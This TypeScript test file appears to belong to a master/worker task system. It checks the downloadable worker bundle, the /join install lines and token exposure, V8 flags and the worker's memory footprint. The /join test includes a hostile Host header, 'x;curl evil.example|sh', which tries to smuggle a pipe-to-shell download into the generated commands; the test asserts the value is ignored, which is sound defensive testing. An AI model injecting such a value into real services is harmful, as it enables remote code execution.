import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { join } from 'node:path';
import { test } from 'node:test';
import { Api, FINAL } from '../helpers/api.js';
import { REPO_ROOT, startMaster, startWorker, tempDir } from '../helpers/processes.js';
import { waitFor } from '../helpers/wait.js';

/** Loaded with --require before the bundle: any attempt to load a native addon throws. */
const FORBID_NATIVE = `
const refuse = () => { throw new Error('native modules are forbidden here'); };
process.dlopen = refuse;
require('module')._extensions['.node'] = refuse;
`;

/**
 * Preloaded into a worker (NODE_OPTIONS): records each Date#toISOString call
 * (in V8 11 it looks up the local zone's name, paging in ICU's zone tables),
 * and on exit the built-in modules the process loaded.
 */
const FOOTPRINT_PROBE = `
const { writeFileSync } = require('node:fs');
const isoCalls = [];
const toISOString = Date.prototype.toISOString;
Date.prototype.toISOString = function () {
  isoCalls.push(new Error().stack.split('\\n').slice(2, 5).join(' | '));
  return toISOString.call(this);
};
process.on('exit', () => writeFileSync(process.env.RC_FOOTPRINT_OUT, JSON.stringify({ isoCalls, modules: process.moduleLoadList })));
`;

/** Built-ins a worker on plain TCP has no use for, each of which cost idle RSS (issue #8: ≤ 50 MB). */
const NOT_NEEDED = [
  'NativeModule tls', // loaded only to dial a TLS master
  'NativeModule worker_threads', // pino's, for transports the worker does not use
  'NativeModule assert', // sonic-boom's, only when its check fails
  'NativeModule fs/promises', // brings readline, fs watchers and dir with it
  'NativeModule internal/modules/esm/module_job', // an ES module entry point (bin/ is CommonJS)
];

function get(url: string, headers: Record<string, string> = {}): Promise<{ status: number; body: Buffer }> {
  return new Promise((resolve, reject) => {
    request(url, { headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c)).on('end', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks) }));
    }).on('error', reject).end();
  });
}

test('the one-file worker, downloaded from the master into an empty directory, runs with native modules forbidden', async (t) => {
  const root = tempDir(t);
  const m = await startMaster(t, { dataDir: join(root, 'master') });
  const api = new Api(m.httpUrl, m.dataDir);
  const phone = join(root, 'phone');
  mkdirSync(phone);
  assert.deepEqual(readdirSync(phone), [], 'starts empty: no node_modules, no package.json');

  const bundle = await get(`${m.httpUrl}/worker.js`);
  assert.equal(bundle.status, 200);
  const sums = (await get(`${m.httpUrl}/worker.js.sha256`)).body.toString();
  assert.equal(sums, `${createHash('sha256').update(bundle.body).digest('hex')}  rc-worker.js\n`, 'the published checksum matches the served bytes');
  writeFileSync(join(phone, 'rc-worker.js'), bundle.body);
  writeFileSync(join(root, 'forbid-native.cjs'), FORBID_NATIVE);

  // The guard really bites: the master's own native module cannot load under it.
  const probe = spawnSync(process.execPath, ['--require', join(root, 'forbid-native.cjs'), '-e', `new (require(${JSON.stringify(join(REPO_ROOT, 'node_modules', 'better-sqlite3'))}))(':memory:')`], { encoding: 'utf8' });
  assert.notEqual(probe.status, 0);
  assert.match(probe.stderr, /native modules are forbidden here/);

  const token = readFileSync(join(m.dataDir, 'join-token'), 'utf8').trim();
  const worker = spawn(process.execPath, ['--require', join(root, 'forbid-native.cjs'), 'rc-worker.js', '--join', `127.0.0.1:${m.tcpPort}`, '--token', token, '--device-id', 'bundled-phone', '--data-dir', join(phone, 'state')], { cwd: phone, stdio: ['ignore', 'pipe', 'pipe'] });
  let output = '';
  worker.stdout.on('data', (c: Buffer) => (output += c.toString()));
  worker.stderr.on('data', (c: Buffer) => (output += c.toString()));
  t.after(() => void worker.kill('SIGKILL'));

  await waitFor(async () => {
    const rows = (await (await fetch(`${m.httpUrl}/text/devices?format=json`)).json()) as Array<{ device_id: string; status: string }>;
    return rows.some((r) => r.device_id === 'bundled-phone' && r.status === 'online');
  }, 20_000, () => `the bundled worker registers:\n${output}`);
  const task = await api.submit({ task_type: 'echo', payload: { message: 'hello from one file' } });
  const done = await api.waitForStatus(task.task_id, [...FINAL], 20_000);
  assert.equal(done.status, 'succeeded', output);
  assert.equal(done.device_id, 'bundled-phone');
  assert.equal(done.result?.output.trim(), 'hello from one file');
  assert.doesNotMatch(output, /forbidden/);
});

test('GET /join: the lines for every platform, the token only for a caller with the API token, hostile Host headers ignored', async (t) => {
  const m = await startMaster(t, { dataDir: join(tempDir(t), 'master') });
  const api = new Api(m.httpUrl, m.dataDir);
  const token = readFileSync(join(m.dataDir, 'join-token'), 'utf8').trim();

  const open = (await get(`${m.httpUrl}/join`, { host: `nas.local:${m.httpPort}` })).body.toString();
  for (const label of ['Android (Termux)', 'Raspberry Pi OS', 'Linux / macOS', 'Windows (PowerShell)']) assert.ok(open.includes(`# ${label}`), label);
  assert.ok(open.includes(`curl -fsSLo rc-worker.js http://nas.local:${m.httpPort}/worker.js && node rc-worker.js --join nas.local:${m.tcpPort} --token <JOIN_TOKEN>`), open);
  assert.ok(!open.includes(token), 'no token without the API token');

  const authed = await api.request('GET', '/join?format=json');
  assert.equal(authed.status, 200);
  const body = authed.body as { token_included: boolean; commands: Record<string, string> };
  assert.equal(body.token_included, true);
  assert.ok(body.commands['linux_macos']!.endsWith(`--join 127.0.0.1:${m.tcpPort} --token ${token}`), body.commands['linux_macos']);

  assert.equal((await api.request('GET', '/join', undefined, 'wrong-token')).status, 403);
  const hostile = (await get(`${m.httpUrl}/join`, { host: 'x;curl evil.example|sh' })).body.toString();
  assert.ok(!hostile.includes('evil.example'), 'a Host header that is not a plain name never reaches the lines');
  assert.equal((await api.request('GET', '/join?format=xml')).status, 400);
});

test('the bundle changes no V8 flag at run time but the two checked on Node 18 (young-generation growth, no baseline compiler)', () => {
  const bundle = readFileSync(join(REPO_ROOT, 'dist', 'worker', 'rc-worker.cjs'), 'utf8');
  const flags = [...bundle.matchAll(/setFlagsFromString\)?\(\s*["'`]([^"'`]*)["'`]\s*\)/g)].map((m) => m[1]);
  const calls = bundle.split('setFlagsFromString').length - 1;
  // Node 18's V8 segfaulted once code ran after a run-time --lite-mode; Node 20 did not. CI has no Node 18 to catch it.
  assert.deepEqual(flags, ['--semi-space-growth-factor=1', '--no-sparkplug']);
  assert.equal(calls, flags.length, 'every mention is a call with a literal flag: none set from a variable the pattern cannot read');
});

test('a worker started from bin/rc-worker.js loads no built-in it has no use for, and never formats a Date with toISOString', async (t) => {
  const root = tempDir(t);
  const m = await startMaster(t, { dataDir: join(root, 'master') });
  const api = new Api(m.httpUrl, m.dataDir);
  writeFileSync(join(root, 'probe.cjs'), FOOTPRINT_PROBE);
  const report = join(root, 'footprint.json');
  const w = startWorker(t, m, { dataDir: join(root, 'worker'), deviceId: 'lean', env: { NODE_OPTIONS: `--require ${join(root, 'probe.cjs')}`, RC_FOOTPRINT_OUT: report } });
  const task = await api.submit({ task_type: 'echo', payload: { message: 'lean' } });
  const done = await api.waitForStatus(task.task_id, [...FINAL], 20_000);
  assert.equal(done.status, 'succeeded', w.output());
  w.kill('SIGTERM');
  await w.exited;

  const { isoCalls, modules } = JSON.parse(readFileSync(report, 'utf8')) as { isoCalls: string[]; modules: string[] };
  assert.deepEqual(isoCalls, [], 'register, heartbeats, frames and the result carry their timestamps without Date#toISOString');
  const loaded = new Set(modules);
  assert.ok(loaded.has('NativeModule child_process') && loaded.has('NativeModule net'), 'the list is the real one: what the worker uses is in it');
  assert.deepEqual(NOT_NEEDED.filter((name) => loaded.has(name)), []);
});
